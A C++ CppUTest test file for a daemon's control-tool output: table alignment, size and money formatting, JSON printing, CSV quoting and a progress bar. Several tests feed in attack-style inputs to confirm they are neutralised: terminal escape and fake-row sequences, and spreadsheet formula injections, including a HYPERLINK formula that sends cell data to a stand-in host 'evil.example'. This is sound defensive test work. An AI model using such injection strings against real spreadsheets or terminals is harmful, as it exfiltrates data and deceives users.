#include <string>

#include "daemon/core/json.h"
#include "daemon/ctl/csv.h"
#include "daemon/ctl/format.h"
#include "daemon/ctl/progress.h"
#include "daemon/ctl/records_json.h"
#include "daemon/ctl/table.h"

// Last: CppUTest's leak detector redefines `new`, which the standard headers must not see.
#include <CppUTest/TestHarness.h>

using namespace lanecast::ctl;

TEST_GROUP(ATable){};

TEST(ATable, AlignsColumnsByCharactersNotBytes) {
  Table table({"NAME", ">PRICE"});
  table.add_row({"Brötchen", "0.45"});
  table.add_row({"Brezel", "12.79"});
  table.add_row({"Äpfel"});  // a missing cell is blank
  STRCMP_EQUAL(
      "NAME      PRICE\n"
      "Brötchen   0.45\n"
      "Brezel    12.79\n"
      "Äpfel\n",
      table.render().c_str());
}

TEST(ATable, ShowsLineBreaksAndEscapeCodesInACellAsEscapes) {
  Table table({"SESSION", ">ORDER"});
  table.add_row({"x\n<0>FAKE", "1"});
  table.add_row({"\x1b[2J\x1b]0;owned\x07", "2"});
  STRCMP_EQUAL(
      "SESSION                  ORDER\n"
      "x\\n<0>FAKE                   1\n"
      "\\x1b[2J\\x1b]0;owned\\x07      2\n",
      table.render().c_str());
}

TEST_GROUP(HumanFormats){};

TEST(HumanFormats, ShowSizesDurationsAndMoney) {
  STRCMP_EQUAL("512 B", human_bytes(512).c_str());
  STRCMP_EQUAL("1.0 KiB", human_bytes(1024).c_str());
  STRCMP_EQUAL("1.5 MiB", human_bytes(1536 * 1024).c_str());
  STRCMP_EQUAL("2.0 GiB", human_bytes(2LL << 30).c_str());
  STRCMP_EQUAL("45s", human_duration(45).c_str());
  STRCMP_EQUAL("12m 05s", human_duration(725).c_str());
  STRCMP_EQUAL("3h 07m", human_duration(3 * 3600 + 7 * 60 + 59).c_str());
  STRCMP_EQUAL("2d 04h", human_duration(2 * 86400 + 4 * 3600).c_str());
  STRCMP_EQUAL("12.49", human_money(1249, 2).c_str());
  STRCMP_EQUAL("-", human_money(std::nullopt, 2).c_str());
  STRCMP_EQUAL("1250", human_money(1250, 0).c_str());
  STRCMP_EQUAL("0.9 ms", human_micros(900).c_str());
  STRCMP_EQUAL("-", human_time(0).c_str());
}

TEST(HumanFormats, ShortenLongTextAtACharacter) {
  STRCMP_EQUAL("short", shorten("short", 10).c_str());
  STRCMP_EQUAL("abcdefghij", shorten("abcdefghij", 10).c_str());
  STRCMP_EQUAL("abcdefghi…", shorten("abcdefghijk", 10).c_str());
  STRCMP_EQUAL("Müsli…", shorten("Müsliriegel", 6).c_str());
}

TEST_GROUP(JsonOutput){};

TEST(JsonOutput, IndentsABodyWithoutRewritingItsNumbers) {
  const std::string body = "{\"price\":1.10,\"n\":[1,2.50e1,{}],\"s\":\"a,{b}:\\\"c\",\"e\":[]}";
  STRCMP_EQUAL(
      "{\n"
      "  \"price\": 1.10,\n"
      "  \"n\": [\n"
      "    1,\n"
      "    2.50e1,\n"
      "    {}\n"
      "  ],\n"
      "  \"s\": \"a,{b}:\\\"c\",\n"
      "  \"e\": []\n"
      "}\n",
      pretty_body(body).c_str());
  STRCMP_EQUAL("not json {\n", pretty_body("not json {").c_str());
}

TEST(JsonOutput, WritesMoneyAsTextAndExactMinorUnits) {
  lanecast::JsonPtr object(cJSON_CreateObject());
  add_money(object.get(), "totalPrice", 1'234'567'890'123'456, 2);
  add_money(object.get(), "totalTax", std::nullopt, 2);
  add_integer(object.get(), "seq", 9'007'199'254'740'993);  // above 2^53: a double would round it
  STRCMP_EQUAL(
      "{\"totalPrice\":\"12345678901234.56\",\"totalPriceMinor\":1234567890123456,\"totalTax\":null,"
      "\"totalTaxMinor\":null,\"seq\":9007199254740993}",
      lanecast::json_print(object.get()).c_str());
}

TEST(JsonOutput, GivesAnEventTheFieldsOfTheEventsApi) {
  lanecast::storage::StoredEvent event;
  event.seq = 7;
  event.kind = "checkout";
  event.path = "/aifi/checkout";
  event.received_at_us = 1'795'860'900'000'000;
  event.order_id = 42;
  event.status = "completed";
  event.body = "{\"orderId\":42}";
  event.answer = "{\"externalId\":\"LC-42\"}";
  STRCMP_EQUAL(
      "{\"seq\":7,\"kind\":\"checkout\",\"path\":\"/aifi/checkout\",\"receivedAt\":\"2026-11-28T10:15:00.000000Z\","
      "\"sessionId\":\"\",\"orderId\":42,\"status\":\"completed\",\"zoneId\":\"\",\"redeliveries\":0,"
      "\"body\":\"{\\\"orderId\\\":42}\",\"answer\":\"{\\\"externalId\\\":\\\"LC-42\\\"}\"}",
      lanecast::json_print(event_json(event).get()).c_str());
}

TEST_GROUP(CsvOutput){};

TEST(CsvOutput, QuotesOnlyWhatNeedsIt) {
  STRCMP_EQUAL("plain", csv_field("plain").c_str());
  STRCMP_EQUAL("", csv_field("").c_str());
  STRCMP_EQUAL("\"a,b\"", csv_field("a,b").c_str());
  STRCMP_EQUAL("\"say \"\"hi\"\"\"", csv_field("say \"hi\"").c_str());
  STRCMP_EQUAL("\"two\nlines\"", csv_field("two\nlines").c_str());
  STRCMP_EQUAL("\" padded\"", csv_field(" padded").c_str());
  STRCMP_EQUAL("1,\"{\"\"a\"\":1}\",x\r\n", csv_row({"1", "{\"a\":1}", "x"}).c_str());
}

namespace {
struct CsvCell {
  const char* text;
  const char* written;
};
// What a spreadsheet would run as a formula is written as quoted text after an apostrophe.
const CsvCell kFormulas[] = {
    {"=2+3", "\"'=2+3\""},
    {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""},
    {"+1+1", "\"'+1+1\""},
    {"-2+3", "\"'-2+3\""},
    {"@SUM(A1:A9)", "\"'@SUM(A1:A9)\""},
    {"\t=1", "\"'\t=1\""},
    {"\r=1", "\"'\r=1\""},
    {"-", "\"'-\""},
    {"-1e5", "\"'-1e5\""},
    {"-1.", "\"'-1.\""},
};
// Numbers stay numbers; text that merely holds a sign elsewhere is not touched.
const CsvCell kKept[] = {
    {"-1.50", "-1.50"}, {"+3", "+3"}, {"-7", "-7"}, {"0.00", "0.00"}, {"a=b", "a=b"}, {"LC-12", "LC-12"},
};
}  // namespace

TEST(CsvOutput, NeutralisesCellsASpreadsheetWouldRunAsFormulas) {
  for (const auto& c : kFormulas) STRCMP_EQUAL_TEXT(c.written, csv_field(c.text).c_str(), c.text);
}

TEST(CsvOutput, KeepsSignedNumbersUsable) {
  for (const auto& c : kKept) STRCMP_EQUAL_TEXT(c.written, csv_field(c.text).c_str(), c.text);
}

TEST_GROUP(AProgressBar){};

TEST(AProgressBar, ShowsShareCountAndRate) {
  Progress bar("replay", 200, false);
  bar.set(50);
  const std::string line = bar.line(std::chrono::steady_clock::now() + std::chrono::seconds(1));
  CHECK_TRUE_TEXT(line.rfind("replay  [#######                       ] 25%  50/200  ", 0) == 0, line.c_str());
  CHECK_TRUE(line.size() > 3 && line.substr(line.size() - 2) == "/s");

  Progress unknown("export", 0, false);
  unknown.set(1234);
  CHECK_TRUE(unknown.line(std::chrono::steady_clock::now()).rfind("export  1234  ", 0) == 0);
}
